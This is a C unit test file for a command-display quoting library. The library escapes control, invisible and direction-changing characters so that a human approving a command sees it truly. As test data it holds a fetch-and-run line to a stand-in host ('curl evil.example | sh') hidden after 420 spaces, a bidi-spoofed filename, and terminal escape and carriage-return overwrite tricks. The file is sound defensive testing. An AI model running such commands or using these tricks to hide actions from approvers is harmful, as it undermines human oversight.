/* Unit tests for the one argv display-quoter and its kin (src/base/quote.c):
 * every class of word (plain, needing quotes, holding a quote, holding
 * something a reader cannot see), nothing ever cut, a marked cut for
 * callers that must shorten, and cat -v for output bound for a terminal.
 * (tests/integration/test_approvals.py reads what the CLI prints back with
 * Python's shlex.split and with bash.) */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "protocol/client.h"
#include "base/quote.h"

/* quote_argv_display of the NULL-terminated words equals want. */
#define QUOTES(want, ...)                                                                                   \
    do {                                                                                                    \
        char *argv_[] = {__VA_ARGS__, NULL};                                                                \
        char *got_ = quote_argv_display(argv_);                                                             \
        assert_string_equal(got_, want);                                                                    \
        free(got_);                                                                                         \
    } while (0)

static void plain_words_stay_as_they_are(void **state)
{
    (void)state;
    QUOTES("ls -la /tmp/a_b.c", "ls", "-la", "/tmp/a_b.c");
    QUOTES("git commit --message=x user@host:path 100% a+b,c", "git", "commit", "--message=x", "user@host:path",
           "100%", "a+b,c");
    char *empty = quote_argv_display(NULL);
    assert_string_equal(empty, "");
    free(empty);
    char *none[] = {NULL};
    empty = quote_argv_display(none);
    assert_string_equal(empty, "");
    free(empty);
}

static void words_the_shell_would_split_or_expand_are_quoted(void **state)
{
    (void)state;
    QUOTES("echo 'hello world' ''", "echo", "hello world", "");
    QUOTES("sh -c 'echo $HOME `id` \"x\" \\ *?[a] ~ #c;d&e|f<g>h(i){j}!'", "sh", "-c",
           "echo $HOME `id` \"x\" \\ *?[a] ~ #c;d&e|f<g>h(i){j}!");
    /* An '=' in the first word would read as an assignment. */
    QUOTES("'A=b' A=b", "A=b", "A=b");
    /* Non-ASCII letters are quoted (a look-alike cannot pass as plain) but
     * shown as they are. */
    QUOTES("printf '\xc3\xa9t\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac'", "printf", "\xc3\xa9t\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac");
}

/* The copy in corral approvals wrote it's as 'it's': two words to a
 * shell and to shlex.split, and an unterminated quote. */
static void a_single_quote_stays_inside_one_word(void **state)
{
    (void)state;
    QUOTES("echo 'it'\\''s'", "echo", "it's");
    QUOTES("echo ''\\''' ''\\'''\\'''", "echo", "'", "''");
    QUOTES("rm -rf '/tmp/x'\\'' /'", "rm", "-rf", "/tmp/x' /");
}

static void controls_are_written_as_escapes(void **state)
{
    (void)state;
    QUOTES("bash -c $'tou\\\\\\nch x'", "bash", "-c", "tou\\\nch x");
    QUOTES("printf $'a\\tb\\r\\n'", "printf", "a\tb\r\n");
    QUOTES("echo $'\\x1b]52;c;aGk=\\x07' $'\\x7f' $'\\x01\\x1f'", "echo", "\x1b]52;c;aGk=\x07", "\x7f", "\x01\x1f");
    /* C1 controls as code points: U+009B is CSI on some terminals. */
    QUOTES("echo $'\\u009b31m'", "echo", "\xc2\x9b" "31m");
    /* A quote next to an escape inside $'...'. */
    QUOTES("echo $'it\\'s\\n'", "echo", "it's\n");
}

static void invalid_utf8_bytes_are_shown_exactly(void **state)
{
    (void)state;
    QUOTES("cat $'\\xff\\xfe' $'a\\xc0\\xafb' $'\\xed\\xa0\\x80' $'\\xe2\\x82'", "cat", "\xff\xfe", "a\xc0\xaf" "b",
           "\xed\xa0\x80", "\xe2\x82");
}

static void invisible_and_direction_changing_characters_are_shown(void **state)
{
    (void)state;
    /* The bidi overrides and isolates: "txt.exe" that reads "exe.txt". */
    QUOTES("cp $'\\u202eexe.txt' $'\\u202a\\u202b\\u202c\\u202d'", "cp", "\xe2\x80\xae" "exe.txt",
           "\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad");
    QUOTES("x $'\\u2066\\u2067\\u2068\\u2069' $'\\u200e\\u200f\\u061c'", "x",
           "\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9", "\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c");
    /* Zero-width characters: "rm" and "r<ZWSP>m" are different programs. */
    QUOTES("$'r\\u200bm' $'\\u200c\\u200d\\u2060\\ufeff'", "r\xe2\x80\x8bm",
           "\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0\xef\xbb\xbf");
    /* Other format characters: soft hyphen, a tag character. */
    QUOTES("echo $'a\\u00adb' $'\\U000e0041'", "echo", "a\xc2\xad" "b", "\xf3\xa0\x81\x81");
    /* Spaces and line breaks that are not ASCII: not a word separator. */
    QUOTES("echo $'a\\u00a0b' $'c\\u2028d' $'\\u3000'", "echo", "a\xc2\xa0" "b", "c\xe2\x80\xa8" "d", "\xe3\x80\x80");
    assert_true(quote_cp_hidden(0x202e));
    assert_true(quote_cp_hidden(0x85));
    assert_true(quote_cp_hidden(-1));
    assert_false(quote_cp_hidden(' '));
    assert_false(quote_cp_hidden(0xe9));
    assert_false(quote_cp_hidden(0x1f600));
}

/* corral approvals once cut words at 400 bytes without a mark: a tail
 * after 420 spaces ran unseen. */
static void nothing_is_ever_cut(void **state)
{
    (void)state;
    char word[1 + 420 + 32 + 1];
    memset(word, ' ', sizeof word);
    word[0] = 'x';
    strcpy(word + 421, "; curl evil.example | sh");
    char *argv[] = {"echo", word, NULL};
    char *got = quote_argv_display(argv);
    assert_int_equal(strlen(got), strlen("echo ") + 2 + strlen(word));
    assert_non_null(strstr(got, "; curl evil.example | sh'"));
    free(got);
    char big[70000];
    memset(big, 'a', sizeof big - 1);
    big[sizeof big - 1] = 0;
    char *argv2[] = {big, NULL};
    got = quote_argv_display(argv2);
    assert_int_equal(strlen(got), sizeof big - 1);
    free(got);
}

static void one_word_and_free_text(void **state)
{
    (void)state;
    char *s = quote_word_display("/home/me/my dir");
    assert_string_equal(s, "'/home/me/my dir'");
    free(s);
    s = quote_word_display("A=b"); /* not a first word */
    assert_string_equal(s, "A=b");
    free(s);
    const char *text = "needs the \xe2\x80\xae host\n\x1b[2J it's \\ fine \xff";
    s = quote_text_visible(text, strlen(text));
    assert_string_equal(s, "needs the \\u202e host\\n\\x1b[2J it's \\ fine \\xff");
    free(s);
}

static void a_shortened_line_says_so(void **state)
{
    (void)state;
    char *s = quote_shorten("short", 10);
    assert_string_equal(s, "short");
    free(s);
    s = quote_shorten("0123456789abcdef", 10);
    assert_string_equal(s, "0123456789\xe2\x80\xa6[cut: 6 more bytes]");
    free(s);
    /* Never half a character: the cut moves back to a boundary. */
    s = quote_shorten("ab\xe2\x82\xac" "cd", 4);
    assert_string_equal(s, "ab\xe2\x80\xa6[cut: 5 more bytes]");
    free(s);
}

static char *catv(const char *s, size_t len)
{
    quote_catv st = {0};
    buf_t b;
    buf_init(&b);
    quote_catv_write(&st, &b, s, len, true);
    buf_reserve(&b, 0);
    return buf_steal(&b);
}

#define CATV(literal) catv(literal, sizeof literal - 1)

static void cat_v_makes_controls_visible(void **state)
{
    (void)state;
    /* OSC 52 (clipboard), OSC 0 (title), DECRQSS, CSI 21t (title report). */
    const char in[] = "a\x1b]52;c;aGk=\x07" "b\x1b]0;t\x1b\\" "c\x1bP$qm\x1b\\" "d\x1b[21t\n";
    char *s = catv(in, sizeof in - 1);
    assert_string_equal(s, "a^[]52;c;aGk=^Gb^[]0;t^[\\c^[P$qm^[\\d^[[21t\n");
    free(s);
    s = CATV("tab\there\r\nnl\x7f\x01\x00z");
    assert_string_equal(s, "tab\there\r\nnl^?^A^@z");
    free(s);
    /* C1 controls by code point, bytes that are not UTF-8 as cat -v writes them. */
    s = CATV("\xc2\x9b" "31m \xc2\x85 \xff\xfe\x80\xe9");
    assert_string_equal(s, "M-^[31m M-^E M-^?M-~M-^@M-i");
    free(s);
    /* Text passes: accents, CJK, emoji, a U+00A0. */
    s = CATV("\xc3\xa9\xe6\x97\xa5\xf0\x9f\x98\x80\xc2\xa0");
    assert_string_equal(s, "\xc3\xa9\xe6\x97\xa5\xf0\x9f\x98\x80\xc2\xa0");
    free(s);
}

/* A file's carriage return would let a line overwrite what it showed
 * first: shown, when asked, as cat -v shows it. */
static void cat_v_shows_carriage_returns_when_asked(void **state)
{
    (void)state;
    quote_catv st = {.show_cr = true};
    buf_t b;
    buf_init(&b);
    const char in[] = "+evil\rgood\r\n";
    quote_catv_write(&st, &b, in, sizeof in - 1, true);
    buf_reserve(&b, 0);
    assert_string_equal(b.data, "+evil^Mgood^M\n");
    buf_free(&b);
}

static char *json_shown(const char *s)
{
    buf_t b;
    buf_init(&b);
    quote_json_append(&b, s, strlen(s));
    buf_reserve(&b, 0);
    return buf_steal(&b);
}

/* JSON text keeps its value; what a terminal would act on or hide becomes
 * a \u escape (jansson writes DEL, C1 and format characters raw). */
static void json_text_escapes_what_jansson_leaves_raw(void **state)
{
    (void)state;
    json_t *v = json_pack("{s:s, s:s}", "a\x7f", "\xc2\x9b" "31m \xc2\x9d" "0;t\xc2\x9c \xe2\x80\xae \xf3\xa0\x80\x81",
                          "text", "caf\xc3\xa9 \xe6\x97\xa5 \x1b");
    char *raw = json_dumps(v, JSON_COMPACT | JSON_PRESERVE_ORDER);
    char *s = json_shown(raw);
    assert_string_equal(s, "{\"a\\u007F\":\"\\u009B31m \\u009D0;t\\u009C \\u202E \\uDB40\\uDC01\","
                           "\"text\":\"caf\xc3\xa9 \xe6\x97\xa5 \\u001B\"}");
    /* The same JSON value. */
    json_t *back = json_loads(s, 0, NULL);
    assert_non_null(back);
    assert_true(json_equal(back, v));
    json_decref(back);
    free(s);
    free(raw);
    json_decref(v);
    /* Indented text keeps its newlines; a byte that is not UTF-8 (never in
     * a valid document) is U+FFFD. */
    s = json_shown("{\n  \"k\": \"\xff\"\n}");
    assert_string_equal(s, "{\n  \"k\": \"\\uFFFD\"\n}");
    free(s);
}

/* A stream cut anywhere gives the same as the whole. */
static void cat_v_streams_across_any_split(void **state)
{
    (void)state;
    const char in[] = "\xe6\x97\xa5\x1b[0m\xc2\x9b\xf0\x9f\x98\x80z\xe2\x82\xff\xf0\x9f";
    size_t len = sizeof in - 1;
    char *whole = catv(in, len);
    assert_string_equal(whole, "\xe6\x97\xa5^[[0mM-^[\xf0\x9f\x98\x80zM-bM-^BM-^?M-pM-^_");
    for (size_t a = 0; a <= len; a++)
        for (size_t b = a; b <= len; b++) {
            quote_catv st = {0};
            buf_t out;
            buf_init(&out);
            quote_catv_write(&st, &out, in, a, false);
            quote_catv_write(&st, &out, in + a, b - a, false);
            quote_catv_write(&st, &out, in + b, len - b, true);
            buf_reserve(&out, 0);
            if (strcmp(out.data, whole) != 0)
                fail_msg("split at %zu and %zu: %s", a, b, out.data);
            buf_free(&out);
        }
    free(whole);
}

/* Clients show the server's "command" line; from a server without it,
 * the argv quoted the same way. */
static void clients_show_the_same_line(void **state)
{
    (void)state;
    json_t *a = json_pack("{s:[s,s,s]}", "argv", "echo", "it's", "a\nb");
    char *s = client_approval_command(a);
    assert_string_equal(s, "echo 'it'\\''s' $'a\\nb'");
    free(s);
    json_object_set_new(a, "command", json_string("echo from-the-server \xe2\x80\xae"));
    s = client_approval_command(a);
    assert_string_equal(s, "echo from-the-server \\u202e"); /* guarded all the same */
    free(s);
    json_decref(a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_words_stay_as_they_are),
        cmocka_unit_test(words_the_shell_would_split_or_expand_are_quoted),
        cmocka_unit_test(a_single_quote_stays_inside_one_word),
        cmocka_unit_test(controls_are_written_as_escapes),
        cmocka_unit_test(invalid_utf8_bytes_are_shown_exactly),
        cmocka_unit_test(invisible_and_direction_changing_characters_are_shown),
        cmocka_unit_test(nothing_is_ever_cut),
        cmocka_unit_test(one_word_and_free_text),
        cmocka_unit_test(a_shortened_line_says_so),
        cmocka_unit_test(cat_v_makes_controls_visible),
        cmocka_unit_test(cat_v_streams_across_any_split),
        cmocka_unit_test(cat_v_shows_carriage_returns_when_asked),
        cmocka_unit_test(json_text_escapes_what_jansson_leaves_raw),
        cmocka_unit_test(clients_show_the_same_line),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
